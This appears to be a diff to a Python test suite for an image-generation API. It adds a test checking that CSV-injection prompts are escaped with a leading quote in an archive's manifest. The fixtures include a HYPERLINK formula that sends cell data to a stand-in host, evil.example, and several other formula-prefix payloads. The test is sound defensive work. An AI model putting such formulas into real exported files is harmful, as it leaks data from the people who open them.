@@ -7,6 +7,7 @@ import io
 import os
 import zipfile
 from datetime import UTC, datetime, timedelta
+from pathlib import Path
 
 import boto3
 import requests
@@ -20,6 +21,13 @@ from tests import openapi_check
 from tests.fixtures.worker import wait_for
 
 MODEL = "black-forest-labs/FLUX.1-schnell-Free"
+PARTI = Path("/work/shared/data/parti_prompts.tsv")
+
+
+def parti_prompts() -> list[str]:
+    """The real prompts of PartiPrompts (column ``Prompt``), in file order."""
+    with PARTI.open(encoding="utf-8", newline="") as fh:
+        return [row["Prompt"].strip() for row in csv.DictReader(fh, delimiter="\t") if row["Prompt"].strip()]
 
 
 def make_images(user: str, n: int, collection: str | None = None) -> list[ImageModel]:
@@ -158,3 +166,29 @@ def test_job_and_collection_archives_and_validation(api, worker):
     job = api.post("/v1/jobs", user="albums", json_body={"prompts": ["x"], "width": 256, "height": 256})
     empty = api.post(f"/v1/jobs/{job.json['job_id']}/archive", user="albums")
     assert empty.status == 409 and empty.json["error"]["code"] == "nothing-to-archive"
+
+
+def test_manifest_cells_that_look_like_formulas_open_as_text(api, worker):
+    """OWASP CSV injection: a prompt starting with = + - @, tab or CR is written to
+    manifest.csv with a leading single quote; the JSON API keeps the exact prompt."""
+    real = parti_prompts()[100:106]
+    attacks = [
+        f'=HYPERLINK("http://evil.example/?"&A1,"{real[0]}")',
+        f"+1+1 {real[1]}",
+        f"@SUM(1,1) {real[2]}",
+        f"-2+3 {real[3]}",
+        f"\t=1+1 {real[4]}",
+        f"\r=1+1 {real[5]}",
+    ]
+    images = make_images("formulas", len(attacks))
+    for image, prompt in zip(images, attacks, strict=True):
+        image.prompt = prompt
+        image.save()
+    made = api.post("/v1/archives", user="formulas", json_body={"image_ids": [i.image_id for i in images]})
+    assert made.status == 201, made.body
+    zf = open_zip(made.json["url"])
+    rows = list(csv.DictReader(io.StringIO(zf.read("manifest.csv").decode("utf-8"), newline="")))
+    assert [row["prompt"] for row in rows] == ["'" + p for p in attacks]
+    assert [row["model"] for row in rows] == [MODEL] * len(attacks)  # other cells untouched
+    for image, prompt in zip(images, attacks, strict=True):
+        assert api.get(f"/v1/images/{image.image_id}", user="formulas").json["prompt"] == prompt
